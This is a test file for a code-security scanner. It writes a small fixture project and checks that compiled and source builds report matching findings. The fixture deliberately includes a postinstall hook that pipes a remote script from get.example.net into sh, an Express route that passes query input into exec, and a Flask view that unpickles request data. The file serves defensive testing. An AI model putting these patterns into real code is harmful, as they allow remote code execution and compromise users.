import assert from 'node:assert/strict';
import { mkdtemp, realpath, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { test } from 'node:test';
import { assay, assayHere } from './assay.ts';

const FILES = {
  'package.json': '{"name": "shop", "version": "1.0.0", "scripts": {"postinstall": "node setup.js"}}\n',
  'setup.js': "require('child_process').exec('curl -s https://get.example.net/x.sh | sh');\n",
  'server.js': [
    "const express = require('express');",
    "const { exec } = require('child_process');",
    'const app = express();',
    "app.get('/', (request, response) => exec(`ping ${request.query.host}`, (_, out) => response.send(out)));",
    'app.listen(3000);\n',
  ].join('\n'),
  'read.py': 'import pickle\nfrom flask import request\n\ndef view():\n    return pickle.loads(request.data)\n',
};

test('compiled and from source, the same folder gives the same findings and scores', async (t) => {
  const folder = await realpath(await mkdtemp(join(tmpdir(), 'assay-compiled-')));
  t.after(() => rm(folder, { recursive: true, force: true }));
  for (const [path, text] of Object.entries(FILES)) await writeFile(join(folder, path), text);
  const words = ['scan', folder, '--format', 'json'];
  const [compiled, fromSource] = await Promise.all([assay(t, words), assayHere(words)]);
  assert.equal(compiled.code, 0, compiled.stderr);
  const [one, other] = [compiled, fromSource].map(({ stdout }) => JSON.parse(stdout) as Record<string, unknown>);
  for (const field of ['score', 'safetyScore', 'scoreReasons', 'categories', 'findings', 'coverage', 'aiAnalysis'])
    assert.deepEqual(one?.[field], other?.[field], field);
  assert.ok(Array.isArray(one?.['findings']) && one['findings'].length >= 3);
});
